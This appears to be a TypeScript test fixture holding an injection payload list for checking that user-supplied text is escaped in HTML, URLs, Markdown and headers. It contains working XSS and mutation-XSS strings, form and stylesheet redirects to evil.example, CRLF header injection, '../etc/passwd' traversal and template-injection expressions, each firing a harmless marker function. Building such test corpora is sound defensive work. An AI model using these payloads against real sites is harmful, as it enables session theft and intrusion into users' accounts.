/**
 * What a stranger types where a name, a title or a remark was expected: ways out of text, attributes,
 * URLs, Markdown, scripts, styles, XML and JSON. What runs calls `pwned()`; what breaks out makes an
 * element or an attribute of that name.
 */
export const payloads: readonly string[] = [
  // Out of text and of every kind of quote.
  `<script>pwned()</script>`,
  `"><script>pwned()</script>`,
  `'><img src=x onerror=pwned()>`,
  `" pwned="1" onmouseover="pwned()" x="`,
  `' pwned='1' onfocus='pwned()' autofocus tabindex=1 x='`,
  `\` onmouseover=pwned() \``,
  `</title><pwned></pwned><script>pwned()</script>`,
  `</textarea><img src=x onerror="pwned()">`,
  `</script><script>pwned()</script><!--`,
  `<!--<script>--><img src=x onerror=pwned()>-->`,
  `]]><script>pwned()</script>`,
  `&lt;script&gt;pwned()&lt;/script&gt;&#60;img src=x onerror=pwned()&#62;`,
  `\u2028<img src=x onerror=pwned()>\u0000<\u0000script>pwned()</script>`,
  // Elements that act.
  `<img src=x onerror=pwned()><svg onload=pwned()><body onload=pwned()>`,
  `<iframe src="javascript:pwned()"></iframe><iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.pwned()</script>"></object><embed src="javascript:pwned()">`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:pwned()">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example'</style>`,
  `<form action="https://evil.example"><button formaction="javascript:pwned()">press</button><input autofocus onfocus=pwned()></form>`,
  `<details open ontoggle=pwned()><summary>s</summary></details><video><source onerror=pwned()></video>`,
  `<marquee onstart=pwned()>m</marquee><a href=# style="animation-name:x" onanimationstart=pwned()>a</a>`,
  `<pwned></pwned><custom-element is="pwned" onclick=pwned()>c</custom-element>`,
  // Addresses that act.
  `<a href="javascript:pwned()">a</a><a href="JaVaScRiPt:pwned()">b</a><a href=" &#x01;javascript:pwned()">c</a>`,
  `<a href="java&#9;script:pwned()">a</a><a href="java&NewLine;script&colon;pwned()">b</a><a href="vbscript:x">c</a>`,
  `<a href="data:text/html,<script>pwned()</script>">a</a><img src="data:text/html,x"><img srcset="javascript:pwned() 1x">`,
  `[a](javascript:pwned()) [b](JAVASCRIPT&colon;pwned()) [c](<java\tscript:pwned()>) <javascript:pwned()>`,
  `![a](javascript:pwned()) ![b](x"onerror="pwned()) [c](https://a.example/"onmouseover="pwned())`,
  `[a][r]\n\n[r]: javascript:pwned() "t\\" onclick=pwned()"`,
  `javascript:pwned()`,
  `https://a.example/"onmouseover="pwned()`,
  `https://a.example/' onmouseover=pwned() '`,
  // What one parser reads otherwise than the next.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=pwned()>">`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>`,
  `<template><script>pwned()</script></template><xmp><img title="</xmp><img src=x onerror=pwned()>"></xmp>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned() src=1>">`,
  `<select><template><style><a title="</style><img src=x onerror=pwned()>"></select>`,
  `<IMG """><SCRIPT>pwned()</SCRIPT>"><img/src=x/onerror=pwned()><<script>pwned();//<</script>`,
  // In Markdown's own constructs.
  '```html"onmouseover=pwned()\n</code></pre><img src=x onerror=pwned()>\n```',
  '`</code><img src=x onerror=pwned()>`',
  `| <img src=x onerror=pwned()> | b |\n|---|---|\n| </td><script>pwned()</script> | \`<svg onload=pwned()>\` |`,
  `# h <img src=x onerror=pwned()> {#"onclick=pwned()}\n\n[^"><script>pwned()</script>]: x\n\nfn[^"><script>pwned()</script>]`,
  `<div id="main" name="body"><a id="location" name="getElementById"></a></div>`,
  `> [!TIP]"><script>pwned()</script>\n> x`,
  // Out of a header or a line.
  `x\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned()</script>`,
  `../../../../etc/passwd%00<script>pwned()</script>`,
  `{{constructor.constructor('pwned()')()}}\${pwned()}<%= pwned() %>`,
]
